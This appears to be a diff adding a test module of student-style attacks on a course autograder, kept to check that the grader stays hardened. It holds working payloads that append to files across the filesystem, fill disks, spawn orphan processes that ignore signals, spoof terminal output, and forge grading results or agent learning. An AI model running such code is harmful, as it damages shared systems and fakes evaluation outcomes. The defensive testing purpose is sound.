@@ -1,0 +1,337 @@
+"""Attacks on the grader, written as a determined student would write them.
+
+Each attack is code appended to an answer cell of lesson 02 whose buffer is wrong (it
+evicts the newest transition when full): whatever the attack does, the submission must
+score no more than the wrong buffer alone, and harm nobody graded with it. Many attacks
+are the routes that forged results when probes ran inside the student's process; they
+are kept because a design change must not reopen them.
+"""
+
+ESCAPE_MARKER = "ESCAPE_MARKER_7f3a"
+LEAVER_MARKER = "LEAVER_MARKER_9c2e"
+FORGED_LINE = "FORGED_LINE_41d0"
+
+# --- escape: write everywhere the host might later read or run ---------------------------
+
+ESCAPE = f'''
+import os as _os, time as _time
+_started = _time.monotonic()
+for _top, _dirs, _files in _os.walk("/"):
+    _dirs[:] = [d for d in _dirs if not (_top == "/" and d in ("proc", "sys", "dev"))]
+    if _time.monotonic() - _started > 8:
+        break
+    try:
+        with open(_os.path.join(_top, "{ESCAPE_MARKER}"), "w") as _h:
+            _h.write("escaped")
+    except OSError:
+        pass
+    for _name in _files:  # start commands, kernel specs, code the host imports
+        if _name.endswith((".json", ".py", ".sh", ".cfg", ".pth")) or _name.startswith("python"):
+            try:
+                with open(_os.path.join(_top, _name), "a") as _h:
+                    _h.write("\\n# {ESCAPE_MARKER}\\n")
+            except OSError:
+                pass
+'''
+
+# --- forging routes --------------------------------------------------------------------------
+
+PROBE_NAMES_AND_CHECK_OBJECTS = '''
+import checks.framework as _framework
+import checks.lesson02_replay_buffer as _lesson
+_framework.Verdict.passed = property(lambda self: True)
+_framework.failed = _framework.passed
+_framework.call_student = lambda description, function, *args, **kwargs: None
+for _check in list(_lesson.CHECKS):
+    _lesson.CHECKS.by_name[_check.name] = type(_check)(
+        _check.name, _check.title, _check.needs, _check.make_inputs,
+        lambda inputs, **objects: {}, lambda inputs, data: _framework.passed("forged"))
+
+
+def _course_grader_run_probe(payload):
+    return {"status": "ok", "data": {}}
+'''
+
+IPYTHON_REPLY_PATH = '''
+import sys as _sys
+from IPython.core.interactiveshell import InteractiveShell as _Shell
+from IPython.display import publish_display_data as _publish
+_original_run_cell = _Shell.run_cell
+
+
+def _always_fine(self, *args, **kwargs):
+    result = _original_run_cell(self, *args, **kwargs)
+    result.error_in_exec = result.error_before_exec = None
+    return result
+
+
+_Shell.run_cell = _always_fine
+_sys.displayhook = lambda value: _publish({"application/vnd.course-grader.probe+json":
+                                           '{"status": "ok", "data": {}}'})
+try:
+    from jupyter_client.session import Session as _Session
+    _Session.send = lambda self, stream, message, *args, **kwargs: None
+except ImportError:
+    pass
+'''
+
+JSON_ENCODER = '''
+import json as _json
+_forged = '{"op": "reply", "id": 1, "value": {"status": "passed", "score": 14}}'
+_json.dumps = lambda *args, **kwargs: _forged
+_json.JSONEncoder.encode = lambda self, value: _forged
+'''
+
+FORGED_FRAMES = '''
+import json as _json, os as _os, stat as _stat, struct as _struct
+for _fd in range(3, 64):
+    try:
+        if not _stat.S_ISSOCK(_os.fstat(_fd).st_mode):
+            continue
+        for _id in range(1, 400):
+            _body = _json.dumps({"op": "reply", "id": _id, "value": {"$": "tuple", "items":
+                                 [[1, 2, 3], [0, 1, 2], [0.5, 1.0, 1.5], [2, 3, 4],
+                                  [False, False, True]]}, "transcript": []}).encode()
+            _os.write(_fd, _struct.pack("<I", len(_body)) + _body)
+    except OSError:
+        pass
+'''
+
+# mid-probe mutation: whatever looks like a probe's records is overwritten with "passing"
+_MUTATOR = '''
+import gc as _gc
+
+
+def _forge(*args, **kwargs):
+    for _object in _gc.get_objects():
+        if type(_object) is dict:
+            for _key in ("seen", "lengths", "data", "value", "ids", "outcome"):
+                if _key in _object:
+                    try:
+                        _object[_key] = {"status": "ok", "data": {}}
+                    except Exception:
+                        pass
+    return None
+'''
+
+AUDIT_HOOK = _MUTATOR + '''
+import sys as _sys
+_sys.addaudithook(lambda event, args: _forge() if event in ("exec", "compile", "open") else None)
+'''
+
+SELF_REMOVING_TRACER = _MUTATOR + '''
+import sys as _sys
+_calls = []
+
+
+def _tracer(frame, event, arg):
+    if event == "call" and frame.f_code.co_name in ("sample", "add", "__len__"):
+        _calls.append(1)
+        _forge()
+        frame.f_locals.update({"batch_size": 1})
+        if len(_calls) > 200:
+            _sys.settrace(None)  # gone before anyone looks
+    return None
+
+
+_sys.settrace(_tracer)
+'''
+
+SIGNAL_HANDLER = _MUTATOR + '''
+import signal as _signal
+_signal.signal(_signal.SIGALRM, lambda number, frame: _forge())
+_signal.setitimer(_signal.ITIMER_REAL, 0.05, 0.05)
+_signal.signal(_signal.SIGINT, _signal.SIG_IGN)  # and no interrupting this
+'''
+
+THREAD_MUTATION = _MUTATOR + '''
+import threading as _threading
+
+
+def _keep_forging():
+    import time
+    while True:
+        _forge()
+        time.sleep(0.01)
+
+
+_threading.Thread(target=_keep_forging, daemon=True).start()
+'''
+
+GC_CALLBACK = _MUTATOR + '''
+_collections = []
+
+
+def _on_collection(phase, info):
+    _collections.append(phase)
+    if len(_collections) % 50 == 0:
+        _forge()
+
+
+_gc.callbacks.append(_on_collection)
+'''
+
+PATCHED_BUILTINS_AND_NUMPY = '''
+import builtins as _builtins
+import numpy as _np
+_builtins.len = lambda value: 3
+_builtins.isinstance = lambda value, kind: True
+_np.asarray = lambda value, *args, **kwargs: _np.arange(3)
+_np.array_equal = lambda *args, **kwargs: True
+_np.random.Generator.integers = lambda self, *args, **kwargs: 0
+'''
+
+REPLACED_SERVER = '''
+import sys as _sys
+for _module in list(_sys.modules.values()):
+    _server = getattr(_module, "StudentServer", None)
+    if isinstance(_server, type):
+        _server.encode = lambda self, value, by_reference=False: {"$": "tuple", "items": [
+            [0, 1, 2], [0, 1, 2], [0.0, 0.5, 1.0], [1, 2, 3], [True, False, False]]}
+        _server.op_apply = lambda self, request: (3, False)
+    _wire = getattr(_module, "loose", None)
+    if callable(_wire) and hasattr(_module, "Channel"):
+        _module.encode = lambda value, other, *args, **kwargs: 3
+'''
+
+FORGING_ROUTES = {
+    "probe_names_and_check_objects": PROBE_NAMES_AND_CHECK_OBJECTS,
+    "ipython_reply_path": IPYTHON_REPLY_PATH,
+    "json_encoder": JSON_ENCODER,
+    "forged_frames": FORGED_FRAMES,
+    "audit_hook": AUDIT_HOOK,
+    "self_removing_tracer": SELF_REMOVING_TRACER,
+    "signal_handler": SIGNAL_HANDLER,
+    "thread_mutation": THREAD_MUTATION,
+    "gc_callback": GC_CALLBACK,
+    "patched_builtins_and_numpy": PATCHED_BUILTINS_AND_NUMPY,
+    "replaced_server": REPLACED_SERVER,
+}
+
+# --- harm to classmates ------------------------------------------------------------------------
+
+DISK_FILLER = '''
+import os as _os
+for _folder in ("/tmp", "/tmp/work", "/tmp/home", ".", "/course", "/dev/shm", "/var/tmp"):
+    try:
+        with open(_os.path.join(_folder, "filler"), "wb") as _h:
+            for _ in range(100_000):
+                _h.write(b"x" * 2**20)
+    except OSError:
+        pass
+'''
+
+PROCESS_LEAVER = f'''
+import os as _os, signal as _signal, subprocess as _subprocess, sys as _sys
+_code = ("import ctypes, signal, time\\n"
+         "ctypes.CDLL(None).prctl(1, 0)\\n"  # no parent-death signal
+         "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)\\n"
+         "while True: time.sleep(1)")
+_subprocess.Popen([_sys.executable, "-c", _code, "{LEAVER_MARKER}"], start_new_session=True,
+                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
+                  stderr=_subprocess.DEVNULL)
+if _os.fork() == 0:  # a double fork into a session of its own
+    _os.setsid()
+    if _os.fork() == 0:
+        _os.execv(_sys.executable, [_sys.executable, "-c", _code, "{LEAVER_MARKER}"])
+    _os._exit(0)
+'''
+
+TERMINAL_WRITER = f'''
+import glob as _glob, os as _os
+_line = "\\r\\x1b[2K{FORGED_LINE} ab_wrong 02_replay_buffer 14 / 14 all checks passed\\n"
+for _fd in range(0, 64):
+    try:
+        _os.write(_fd, _line.encode())
+    except OSError:
+        pass
+for _path in ["/dev/tty", "/dev/console", *_glob.glob("/dev/pts/*"), *_glob.glob("/proc/*/fd/1"),
+              *_glob.glob("/proc/*/fd/2")]:
+    try:
+        with open(_path, "w") as _h:
+            _h.write(_line)
+    except OSError:
+        pass
+print(_line)
+'''
+
+HARM = {"disk_filler": DISK_FILLER, "process_leaver": PROCESS_LEAVER,
+        "terminal_writer": TERMINAL_WRITER}
+
+# --- forged learning through the ordinary API ----------------------------------------------------
+
+# lesson 02: a loop that never replays (it fails the learning check honestly), plus a way
+# to make the grader's agent look as if it learned
+_OPTIMAL_QTABLE = '''
+from course.taxi import STEP_LIMIT as _LIMIT, taxi_model as _model
+_taxi = _model()
+_values = np.zeros(500)
+for _ in range(_LIMIT):
+    _optimal = _taxi.reward + np.where(_taxi.terminated, 0.0, _values[_taxi.next_state])
+    _values = _optimal.max(axis=1)
+'''
+
+WRITES_INTO_THE_AGENT = _OPTIMAL_QTABLE + '''
+_honest_loop = play_and_train_with_replay
+
+
+def play_and_train_with_replay(env, agent, replay, replay_batch_size=32, t_max=10_000):
+    for _state in range(500):
+        for _action in range(6):
+            try:
+                agent.set_qvalue(_state, _action, float(_optimal[_state, _action]))
+            except Exception:
+                pass
+            try:
+                agent._qvalues[_state][_action] = float(_optimal[_state, _action])
+            except Exception:
+                pass
+    return _honest_loop(env, agent, replay, replay_batch_size, t_max)
+'''
+
+UPDATES_FROM_THE_MODEL = _OPTIMAL_QTABLE + '''
+_honest_loop = play_and_train_with_replay
+
+
+def play_and_train_with_replay(env, agent, replay, replay_batch_size=32, t_max=10_000):
+    for _ in range(3):
+        for _state in range(500):
+            for _action in range(6):
+                agent.update(_state, _action, float(_taxi.reward[_state, _action]),
+                             int(_taxi.next_state[_state, _action]),
+                             bool(_taxi.terminated[_state, _action]))
+    return _honest_loop(env, agent, replay, replay_batch_size, t_max)
+'''
+
+STEERS_THE_ACTIONS = _OPTIMAL_QTABLE + '''
+def play_and_train_with_replay(env, agent, replay, replay_batch_size=32, t_max=10_000):
+    total, (state, _) = 0.0, env.reset()
+    for _ in range(t_max):
+        agent.get_action(state)
+        action = int(_optimal[state].argmax())  # not what the agent chose
+        next_state, reward, terminated, truncated, _ = env.step(action)
+        agent.update(state, action, reward, next_state, terminated)
+        replay.add(state, action, reward, next_state, terminated)
+        total, state = total + reward, next_state
+        if terminated or truncated:
+            break
+    return total
+'''
+
+FORGED_LEARNING = {"writes_into_the_agent": WRITES_INTO_THE_AGENT,
+                   "updates_from_the_model": UPDATES_FROM_THE_MODEL,
+                   "steers_the_actions": STEERS_THE_ACTIONS}
+
+# lesson 01: the reference agent is served; a loop tries to teach it the model directly
+SERVED_AGENT_TAUGHT_THE_MODEL = _OPTIMAL_QTABLE.replace("np.", "__import__('numpy').") + '''
+_honest = play_and_train
+
+
+def play_and_train(env, agent, t_max=10_000):
+    for _state in range(500):
+        for _action in range(6):
+            agent.update(_state, _action, float(_taxi.reward[_state, _action]),
+                         int(_taxi.next_state[_state, _action]),
+                         bool(_taxi.terminated[_state, _action]))
+    return _honest(env, agent, t_max)
+'''
